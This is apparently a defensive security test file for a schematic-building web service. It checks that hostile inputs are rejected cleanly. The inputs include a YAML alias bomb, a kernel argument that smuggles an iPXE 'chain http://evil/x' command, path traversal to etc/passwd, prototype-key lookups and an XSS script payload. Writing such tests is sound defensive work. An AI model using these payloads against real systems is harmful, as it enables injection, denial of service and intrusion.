/**
 * Hostile inputs, collected in one place (in the spirit of h3's security.test.ts). Every case must
 * get a 4xx with a one-line text reason, never a 500 or a stack trace, and must change nothing.
 * Later frontends add their own cases here.
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { readdirSync, existsSync } from 'node:fs'
import { join } from 'node:path'
import { startEdge, type RunningEdge } from '../helpers/edge.ts'

let edge: RunningEdge
beforeAll(async () => {
  edge = await startEdge({ FACTORY_MAX_BODY_BYTES: '64KiB' })
})
afterAll(async () => {
  await edge.stop()
})

function storedSchematics(): number {
  const dir = join(edge.dataDir, 'schematics')
  if (!existsSync(dir)) return 0
  return readdirSync(dir, { recursive: true }).filter((f) => String(f).endsWith('.yaml')).length
}

async function expectRejected(res: Response, status = 400): Promise<string> {
  const text = await res.text()
  expect(res.status).toBe(status)
  expect(res.headers.get('content-type')).toBe('text/plain; charset=utf-8')
  expect(text.endsWith('\n')).toBe(true)
  expect(text.trimEnd().includes('\n')).toBe(false) // one line
  expect(text).not.toMatch(/\bat .*\.ts:\d+|node_modules|Error:/) // no stack traces
  expect(res.headers.get('x-request-id')).toBeTruthy()
  return text
}

const post = (body: string | Uint8Array | ReadableStream<Uint8Array>, headers: Record<string, string> = {}) =>
  fetch(`${edge.url}/schematics`, { method: 'POST', body, headers })

const deep = (n: number) => `${'['.repeat(n)}${']'.repeat(n)}`
const aliasBomb = [
  'a: &a ["x","x","x","x","x","x","x","x","x"]',
  'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
  'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
  'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
  'e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]',
  'f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]',
  'g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]',
  'overlay:\n  image: x\n  name: y\n  options:\n    bomb: [*g,*g,*g,*g,*g,*g,*g,*g,*g]',
].join('\n')

const HOSTILE: [string, string, RegExp | null][] = [
  ['malformed YAML', 'customization: [\n', /yaml|did not find|parse/i],
  ['tab-indented YAML', 'customization:\n\textraKernelArgs: [a]\n', null],
  ['unknown top-level field', 'something: 1\n', /field something not found in type schematic\.Schematic/],
  ['unknown nested field', 'customization:\n  extraKernelArg: [a]\n', /field extraKernelArg not found in type schematic\.Customization/],
  ['unknown meta field', 'customization:\n  meta:\n    - key: 1\n      value: x\n      extra: y\n', /schematic\.MetaValue/],
  ['wrong type: string for list', 'customization:\n  extraKernelArgs: x\n', /cannot construct/],
  ['wrong type: quoted bool', 'customization:\n  secureboot:\n    includeWellKnownCertificates: "true"\n', /cannot construct/],
  ['META key 256', 'customization:\n  meta:\n    - key: 256\n      value: x\n', /256/],
  ['META key -1', 'customization:\n  meta:\n    - key: -1\n      value: x\n', null],
  ['negative sector size', 'customization:\n  diskImage:\n    sectorSize: -1\n', null],
  ['bootloader auto', 'customization:\n  bootloader: auto\n', /auto does not belong to BootloaderKind values/],
  ['bootloader bogus', 'customization:\n  bootloader: lilo\n', /BootloaderKind/],
  ['owner (community edition)', 'owner: alice\n', /owner field is only supported in Enterprise edition/],
  ['duplicate key', 'customization:\n  extraKernelArgs: [a]\n  extraKernelArgs: [b]\n', /already defined/],
  ['non-mapping document', '[]\n', /cannot construct !!seq into schematic\.Schematic/],
  ['scalar document', 'hello\n', null],
  ['kernel arg with newline (would break iPXE scripts)', '{"customization":{"extraKernelArgs":["a\\nchain http://evil/x"]}}', null],
  ['kernel arg with carriage return', '{"customization":{"extraKernelArgs":["a\\rb"]}}', null],
  ['kernel arg with NUL', '{"customization":{"extraKernelArgs":["a\\u0000b"]}}', null],
  ['deeply nested flow collections', `overlay:\n  image: x\n  name: y\n  options:\n    deep: ${deep(5000)}\n`, null],
  ['alias expansion bomb', aliasBomb, null],
]

describe('hostile schematics', () => {
  test.each(HOSTILE)('%s → 400, nothing stored', async (_name, body, reason) => {
    const before = storedSchematics()
    const text = await expectRejected(await post(body))
    if (reason) expect(text).toMatch(reason)
    expect(storedSchematics()).toBe(before)
  })

  test('oversized body with Content-Length → 413 before reading it', async () => {
    const before = storedSchematics()
    const big = `customization:\n  extraKernelArgs:\n${'    - aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n'.repeat(2000)}`
    await expectRejected(await post(big), 413)
    expect(storedSchematics()).toBe(before)
  })

  test('oversized chunked body (no Content-Length) → 413', async () => {
    const chunk = new TextEncoder().encode(`# ${'x'.repeat(8190)}\n`)
    let sent = 0
    const stream = new ReadableStream<Uint8Array>({
      pull(c) {
        if (sent++ >= 20) return c.close()
        c.enqueue(chunk)
      },
    })
    const before = storedSchematics()
    await expectRejected(await post(stream), 413)
    expect(storedSchematics()).toBe(before)
  })

  test('invalid UTF-8 bytes → 4xx, not 500', async () => {
    const res = await post(new Uint8Array([0x63, 0x3a, 0x20, 0xff, 0xfe, 0x0a]))
    expect(res.status).toBeGreaterThanOrEqual(400)
    expect(res.status).toBeLessThan(500)
  })

  test('path traversal in schematic ID → 404, no file access', async () => {
    for (const id of ['..%2F..%2Fetc%2Fpasswd', '%2e%2e', 'a'.repeat(65), `${'a'.repeat(63)}G`]) {
      const res = await fetch(`${edge.url}/schematics/${id}`)
      // the client resolves `%2e%2e` itself (to `/`, the web UI): the server never sees a traversal
      if (!new URL(res.url).pathname.startsWith('/schematics/')) {
        expect(res.headers.get('content-type')).toBe('text/html; charset=utf-8')
        continue
      }
      expect([404, 400]).toContain(res.status)
    }
  })
})

describe('Swagger UI assets', () => {
  // a plain-object lookup let these through to Bun.file(), and Bun's error page (500, ~50 KB of
  // HTML with host paths) answered
  test.each(['constructor', 'toString', '__proto__', 'hasOwnProperty', 'valueOf', 'nope.js'])('/swagger/assets/%s → 404, one line', async (name) => {
    const text = await expectRejected(await fetch(`${edge.url}/swagger/assets/${name}`), 404)
    expect(text).toBe(`no such asset ${JSON.stringify(name)}\n`)
  })

  test('the real assets are still served', async () => {
    const res = await fetch(`${edge.url}/swagger/assets/swagger-ui.css`)
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('text/css; charset=utf-8')
    await res.arrayBuffer()
  })
})

describe('web UI', () => {
  test.each([
    ['/?target=%3Cscript%3E', 400],
    ['/?extensions=..%2F..%2Fetc%2Fpasswd', 400],
    ['/?schematic-id=..%2F..%2Fdata', 400],
    ['/?embedded-config=machine%3A+%7B%7D', 400],
    ['/ui/assets/constructor', 404],
    ['/ui/assets/__proto__', 404],
    ['/ui/assets/..%2Fwizard.ts', 404],
    ['/progress/..%2F..%2Fetc/v1.12.0/kernel-amd64', 404],
  ] as const)('GET %s → %d, one line, input not echoed as markup', async (path, status) => {
    const text = await expectRejected(await fetch(`${edge.url}${path}`), status)
    expect(text).not.toContain('<')
  })

  test('the wizard form: not a form → 400; oversized → 413; nothing stored', async () => {
    const before = storedSchematics()
    const form = (body: string, type = 'application/x-www-form-urlencoded') => fetch(`${edge.url}/ui/wizard`, { method: 'POST', body, headers: { 'content-type': type } })
    await expectRejected(await form('target=metal', 'text/plain'), 400)
    await expectRejected(await form(`target=metal&embedded-config=${'x'.repeat(70 * 1024)}`), 413)
    expect(storedSchematics()).toBe(before)
  })

  test('remembered choices are escaped where the page carries them', async () => {
    const res = await fetch(`${edge.url}/?selected-cmdline=${encodeURIComponent('"><script>alert(1)</script>')}`)
    expect(res.status).toBe(200)
    const page = await res.text()
    expect(page).not.toContain('<script>alert(1)')
    expect(page).toContain('value="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"')
  }, 20_000)
})
